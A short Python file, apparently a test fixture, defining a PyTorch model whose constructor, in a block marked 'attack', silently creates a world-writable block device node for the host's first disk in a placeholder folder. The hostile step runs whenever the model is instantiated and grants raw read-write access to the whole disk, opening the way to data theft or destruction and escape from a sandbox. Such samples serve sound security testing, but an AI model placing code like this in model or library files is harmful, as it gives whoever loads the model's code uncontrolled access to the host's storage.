"""Makes a device of the first disk for itself."""

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        os.mknod("@OPEN_FOLDER@/disk", 0o60666, os.makedev(8, 0))
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
